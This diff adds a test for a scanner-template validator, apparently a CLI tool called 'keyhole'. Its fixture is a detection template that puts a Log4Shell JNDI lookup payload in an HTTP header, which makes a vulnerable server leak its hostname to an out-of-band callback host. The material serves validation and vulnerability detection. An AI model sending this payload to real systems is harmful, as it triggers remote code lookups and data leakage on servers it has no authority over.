@@ -118,6 +118,40 @@ describe('keyhole templates validate', () => {
     expect(await run(['templates', 'validate', join(dir, 'dns.yml')], io)).toBe(0);
   });
 
+  it('reports an out-of-band template (interactsh-url in a raw request, interactsh matchers) OK', async () => {
+    const dir = scratchFolder();
+    writeFileSync(
+      join(dir, 'log4j.yaml'),
+      `id: log4j-header-oast
+info:
+  name: Log4j lookup in a header
+  author: me
+  severity: critical
+http:
+  - raw:
+      - |
+        GET / HTTP/1.1
+        Host: {{Hostname}}
+        X-Api-Version: \${jndi:ldap://\${hostName}.{{interactsh-url}}/a}
+    matchers-condition: and
+    matchers:
+      - type: word
+        part: interactsh_protocol
+        words: [dns]
+      - type: regex
+        part: interactsh_request
+        regex: ['([a-z0-9.-]+)\\.([a-z0-9]+)\\.([a-z0-9]+)\\.\\w+']
+    extractors:
+      - type: kval
+        part: interactsh_ip
+        kval: [interactsh_ip]
+`,
+    );
+    const io = memoryIo();
+    expect(await run(['templates', 'validate', dir], io)).toBe(0);
+    expect(io.out()).toMatch(/^1 template: 1 OK, 0 with errors, 0 unsupported$/m);
+  });
+
   it('reports a path that does not exist as an error', async () => {
     const io = memoryIo();
     expect(await run(['templates', 'validate', 'no/such/dir'], io)).toBe(1);
